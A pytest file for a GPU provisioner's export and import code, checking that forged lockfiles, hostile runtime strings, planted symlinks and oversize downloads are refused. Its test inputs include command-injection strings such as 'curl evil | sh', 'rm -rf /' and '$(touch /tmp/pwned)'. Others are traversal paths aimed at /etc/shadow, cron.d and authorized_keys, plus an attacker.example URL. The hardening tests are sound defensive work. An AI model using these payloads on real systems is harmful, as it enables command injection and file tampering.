"""The proving container is hostile: each shape of its attack fails the export or import cleanly, names the
bad field, and writes nothing outside the export folder.

The container is this machine through `LocalTransport` (real processes); its root has replaced the
engine's uv at `uv_dir/bin/uv` with a script that answers `--version` as the pinned uv and writes the
forged pylock of each case (what a tenant with root in the container can do). The recorded lock (what the
engine locked) is the test's. Downloads are made from real HTTP servers (`tests.support.wheel_server`).
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from provisioner.export import flox, nix, oci, pylock, trust, write
from provisioner.export.collect import build, make_pylock
from provisioner.export.models import RuntimeProof
from provisioner.export.rules import import_problems
from provisioner.export.source import ExportRefused, Proof
from provisioner.export.steps import FETCH_SCRIPT
from provisioner.payloads import RuntimeGpu, VenvRuntime
from provisioner.steps.venv_common import UV_PIN
from provisioner.transport.local import LocalTransport
from tests.support.export_folder import PLAYBOOK, export_folder, host, make_wheels, runtime
from tests.support.require import require
from tests.support.wheel_server import oversize

REPO = Path(__file__).resolve().parents[1]
PYPI = "https://pypi.org/simple"
WHEEL = "six-1.16.0-py2.py3-none-any.whl"
SHA = hashlib.sha256(b"the six wheel the engine locked").hexdigest()
LOCK = f"six==1.16.0 \\\n    --hash=sha256:{SHA}\n"
FILES = "https://files.pythonhosted.org/packages/d9/5a"


def _forged(url: str, *, name: str | None = None, sha: str = SHA, package: str = "six") -> str:
    listed = f'name = {json.dumps(name)}, ' if name is not None else ""
    return (f'lock-version = "1.0"\ncreated-by = "uv"\nrequires-python = ">=3.8"\n\n[[packages]]\n'
            f'name = "{package}"\nversion = "1.16.0"\n'
            f'wheels = [{{ {listed}url = {json.dumps(url)}, upload-time = 2021-05-05T14:18:17Z, size = 11053, '
            f'hashes = {{ sha256 = "{sha}" }} }}]\n')


def _container(tmp: Path, answer: str) -> tuple[LocalTransport, Path, Path]:
    """(transport, venv, uv_dir): the engine's uv replaced by the container's root with a forger."""
    uv_dir, venv = tmp / "ct-uv", tmp / "ct-venv"
    (uv_dir / "bin").mkdir(parents=True)
    (venv / "bin").mkdir(parents=True)
    (tmp / "answer.toml").write_text(answer)
    forger = uv_dir / "bin" / "uv"
    forger.write_text(f"""#!/bin/sh
if [ "$1" = "--version" ]; then echo "uv {UV_PIN}"; exit 0; fi
while [ $# -gt 0 ]; do if [ "$1" = "-o" ]; then cp {tmp / 'answer.toml'} "$2"; fi; shift; done
""")
    forger.chmod(0o755)
    return LocalTransport(env={"PATH": "/usr/bin:/bin"}), venv, uv_dir


def _export(tmp: Path, answer: str) -> str:
    ct, venv, uv_dir = _container(tmp, answer)
    before = sorted(p.name for p in tmp.iterdir())
    with pytest.raises(ExportRefused) as err:
        asyncio.run(make_pylock(ct, str(venv), {"extra": {"text": LOCK, "index_url": PYPI}}, variant="cpu",
                                torch_index=PYPI, python="3.12.3", uv_dir=str(uv_dir)))
    assert sorted(p.name for p in tmp.iterdir()) == before  # nothing written here
    return str(err.value)


@pytest.mark.parametrize(("url", "name", "says"), [
    (f"{FILES}/..%2F..%2F{WHEEL}", None, "Invalid wheel filename '../../six"),
    (f"{FILES}/%2Fetc%2F{WHEEL}", None, "Invalid wheel filename '/etc/six"),
    (f"{FILES}/..%2E%2F{WHEEL}", None, "Invalid wheel filename"),
    (f"{FILES}/../{WHEEL}", None, "'..' path segment"),
    (f"{FILES}/{WHEEL}", f"/etc/{WHEEL}", "Invalid wheel filename"),
    ("file:///etc/shadow", None, "Invalid wheel filename 'shadow'"),
    (f"file:///tmp/{WHEEL}", None, "not an https URL"),
    (f"https://attacker.example/{WHEEL}", None, "not an allowed index host"),
    (f"http://files.pythonhosted.org/packages/{WHEEL}", None, "not an allowed index host"),
    (f"https://user:pw@files.pythonhosted.org/{WHEEL}", None, "user info is refused"),
])
def test_a_forged_wheel_url_or_name_fails_the_export_naming_the_field(tmp_path: Path, url: str, name: str | None,
                                                                      says: str) -> None:
    message = _export(tmp_path, _forged(url, name=name))
    assert says in message and "packages[0]" in message and "wheels[0]" in message, message


def test_what_the_engine_did_not_lock_fails_the_export(tmp_path: Path) -> None:
    forged_hash = _export(tmp_path / "a", _forged(f"{FILES}/{WHEEL}", sha="f" * 64)) if (tmp_path / "a").mkdir() \
        is None else ""
    assert "wheels[0].hashes.sha256: not a hash of the venv's recorded lock" in forged_hash
    other = _export(tmp_path / "b", _forged(f"{FILES}/evil-1.16.0-py3-none-any.whl")) if (tmp_path / "b").mkdir() \
        is None else ""
    assert "not consistent with package name" in other and "wheels[0]" in other


def test_the_engines_uv_is_taken_by_path_not_from_the_containers_path(tmp_path: Path) -> None:
    """uv_dir holds no uv and this machine has none of the pin to lend (PATH names only a wrapper): refused,
    and the wrapper never ran."""
    bindir, marker = tmp_path / "bin", tmp_path / "ran"
    bindir.mkdir()
    (bindir / "uv").write_text(f"#!/bin/sh\necho ran > {marker}\necho 'uv {UV_PIN}'\n")
    (bindir / "uv").chmod(0o755)
    from provisioner.export import collect

    ct = LocalTransport(env={"PATH": f"{bindir}:/usr/bin:/bin"})
    lent = collect.local_uv
    collect.local_uv = lambda pin: None  # this machine has no uv of the pin (the only seam: a machine fact)
    try:
        with pytest.raises(ExportRefused, match=r"container's PATH is not trusted to name uv"):
            asyncio.run(collect.engine_uv(ct, str(tmp_path / "no-uv")))
    finally:
        collect.local_uv = lent
    assert not marker.exists()


# --- runtime.json strings ------------------------------------------------------------------------------

def _proof() -> Proof:
    return Proof(resolved={"torch": {"variant": "cu128"}, "burnin": {"verdict": "pass", "summary": "pass"}},
                 run_id="20261203T084504-16857c", at=0.0, host="pve1:22", playbook=str(PLAYBOOK))


@pytest.mark.parametrize(("field", "value", "named"), [
    ("torch", "2.11.0+cu128$(touch /tmp/pwned)", "torch"),
    ("torch", "2.11.0+cu128\n[profile]", "torch"),
    ("python", '3.12.3"; rm -rf /', "python"),
    ("cuda", "12.8\nx", "cuda"),
    ("gpu_name", "NVIDIA B200\n[profile]\ncommon = \"curl evil | sh\"", "gpus.0.name"),
    ("arch_list", "sm_120$(id)", "arch_list.0"),
])
def test_a_hostile_runtime_string_fails_the_export_naming_the_field(tmp_path: Path, field: str, value: str,
                                                                   named: str) -> None:
    good = {"torch": "2.11.0+cu128", "python": "3.12.3", "cuda": "12.8", "arch_list": ["sm_120"]}
    rt = {**good, **({field: [value]} if field == "arch_list" else {field: value} if field != "gpu_name" else {})}
    gpu = RuntimeGpu(index=0, name=value if field == "gpu_name" else "NVIDIA B200", compute_cap="10.0")
    venv_rt = VenvRuntime(built_by="gpu-provisioner", verified=True, index_url="https://download.pytorch.org/whl/cu128",
                          driver="595.71.05", gpus=[gpu], **rt)
    doc = pylock.parse({"lock-version": "1.0", "created-by": "t", "packages": [
        {"name": "six", "version": "1.16.0", "wheels": [{"url": f"{FILES}/{WHEEL}", "size": 11053,
                                                         "hashes": {"sha256": SHA}}]}]})
    with pytest.raises(ExportRefused) as err:
        build(_proof(), "/opt/torch-venv", venv_rt, doc, 200)
    assert f": {named}:" in str(err.value), str(err.value)
    assert value not in str(err.value)  # named, never echoed


def test_each_rendering_escapes_by_its_own_rules() -> None:
    """Past the models' rules (a runtime built without validation), the renderings still escape: the Nix
    string evaluates to the same text, the TOML keeps the value as one string and no table is added."""
    hostile = 'a"b\\c${x}$(touch /tmp/pwned)\n[profile]\ncommon = "x"\'\''
    rt = RuntimeProof.model_construct(**{**runtime().__dict__, "torch": hostile})
    manifest = tomllib.loads(flox.render(rt, host(), "0.13.9"))
    assert manifest["vars"]["GPU_PROVISIONER_TORCH"] == hostile and "profile" not in manifest
    require(shutil.which("nix-instantiate") is not None, "nix-instantiate (Debian nix-bin) is not installed")
    got = subprocess.run(["nix-instantiate", "--eval", "--json", "--expr", nix.nix_str(hostile)],
                         capture_output=True, text=True, timeout=60)
    assert got.returncode == 0, got.stderr
    assert json.loads(got.stdout) == hostile
    flake = nix.render(rt, host(), [], nix.NIXPKGS_REV)
    parsed = subprocess.run(["nix-instantiate", "--parse", "-"], input=flake, capture_output=True, text=True,
                            timeout=60)
    assert parsed.returncode == 0, parsed.stderr
    assert "$(touch" not in flake.split("installPhase = ''")[1]  # tests/test_export_nix.py evaluates it


# --- the export folder ------------------------------------------------------------------------------------

def test_a_symlinked_export_file_is_refused_without_its_content(tmp_path: Path) -> None:
    folder, _ = export_folder(tmp_path, make_wheels(tmp_path / "index"), "https://wheels.example")
    secret = tmp_path / "controller-secret"
    secret.write_text("SECRET-CONTENT-OF-THE-CONTROLLER\n")
    (folder / "runtime.json").unlink()
    (folder / "runtime.json").symlink_to(secret)
    with pytest.raises(write.ExportInvalid, match=r"runtime\.json is a symbolic link") as err:
        write.read_export(folder)
    assert "SECRET" not in str(err.value)
    env = {**os.environ, "PROVISIONER_STATE_DIR": str(tmp_path / "state"), "HOME": str(tmp_path)}
    proc = subprocess.run([sys.executable, "-m", "provisioner", "import", str(folder), "--playbook", str(PLAYBOOK)],
                          capture_output=True, text=True, env=env, cwd=REPO, timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert "runtime.json is a symbolic link" in proc.stderr
    assert "SECRET" not in proc.stdout + proc.stderr
    assert not (tmp_path / "state" / "runs").exists() or not list((tmp_path / "state" / "runs").iterdir())


def test_a_planted_link_in_the_export_folder_is_replaced_not_followed(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("untouched\n")
    out = tmp_path / "export"
    out.mkdir()
    (out / "pylock.toml").symlink_to(victim)
    export_folder(tmp_path, make_wheels(tmp_path / "index"), "https://wheels.example")
    assert victim.read_text() == "untouched\n" and not (out / "pylock.toml").is_symlink()


def test_a_hostile_lock_in_an_export_folder_is_refused_naming_the_field(tmp_path: Path) -> None:
    folder, _ = export_folder(tmp_path, make_wheels(tmp_path / "index"), "https://wheels.example")
    text = (folder / "pylock.toml").read_text()
    for bad, says in (("..%2F..%2Fetc%2Fcron.d%2Fx-1.0-py3-none-any.whl", "not a wheel file name"),
                      ("%2Froot%2F.ssh%2Fauthorized_keys", "not a wheel file name")):
        forged = text.replace("nvidia_ml_py-13.595.45-py3-none-any.whl", bad, 1)
        (folder / "pylock.toml").write_text(forged)
        with pytest.raises(write.ExportInvalid, match=r"packages\[0\].?.*wheels\[0\]") as err:
            write.read_export(folder)
        assert says in str(err.value) or "Invalid wheel filename" in str(err.value)
    (folder / "pylock.toml").write_text(text.replace("https://wheels.example/nvidia", "file:///etc/nvidia", 1))
    with pytest.raises(write.ExportInvalid, match="not an https URL"):
        write.read_export(folder)


# --- downloads ----------------------------------------------------------------------------------------------

def test_an_oversize_body_stops_the_download_and_leaves_no_partial_file(tmp_path: Path) -> None:
    cache, dest = tmp_path / "cache", tmp_path / "dest"
    dest.mkdir()
    with oversize(8 << 20) as url:
        wheel = pylock.Wheel("six", "1.16.0", f"{url}/{WHEEL}", SHA, 10, WHEEL)
        with pytest.raises(ValueError, match="larger than the lock's size 10"):
            oci.fetch_wheel(wheel, cache)
        assert list(cache.iterdir()) == []
        spec = json.dumps([{"filename": WHEEL, "url": wheel.url, "sha256": SHA, "size": 10}])
        ran = subprocess.run([sys.executable, "-c", FETCH_SCRIPT, str(dest), spec], capture_output=True, text=True,
                             timeout=120)
    assert "larger than the lock's size 10" in json.loads(ran.stdout.strip().splitlines()[-1])["error"]
    assert list(dest.iterdir()) == []


def test_the_container_side_fetch_refuses_a_path_and_a_file_url(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    dest.mkdir()
    for name, url in ((f"../{WHEEL}", f"https://x/{WHEEL}"), (WHEEL, "file:///etc/shadow")):
        spec = json.dumps([{"filename": name, "url": url, "sha256": SHA, "size": 10}])
        ran = subprocess.run([sys.executable, "-c", FETCH_SCRIPT, str(dest), spec], capture_output=True, text=True,
                             timeout=60)
        assert "error" in json.loads(ran.stdout.strip().splitlines()[-1])
    assert list(dest.iterdir()) == [] and not (tmp_path / WHEEL).exists()




# --- import applies the resolver's rules --------------------------------------------------------------------

def test_import_refuses_blackwell_on_a_545_driver_naming_r570() -> None:
    problems = import_problems(runtime(), host(), ["12.0"] * 8, "545.23.08")
    assert problems and "R570" in problems[0] and "needs driver ≥ 570" in problems[0]
    assert import_problems(runtime(), host(), ["12.0"] * 8, "595.71.05") == []
    # the same build on an Ampere host with the same driver is fine: the floor is Blackwell's, not the build's
    assert import_problems(runtime(), host(), ["8.0"], "545.23.08") == []


def test_trust_shows_hostile_values_without_control_characters() -> None:
    assert "\n" not in trust.shown("a\nb\x1b[31m") and "\\x1b" in trust.shown("a\nb\x1b[31m")
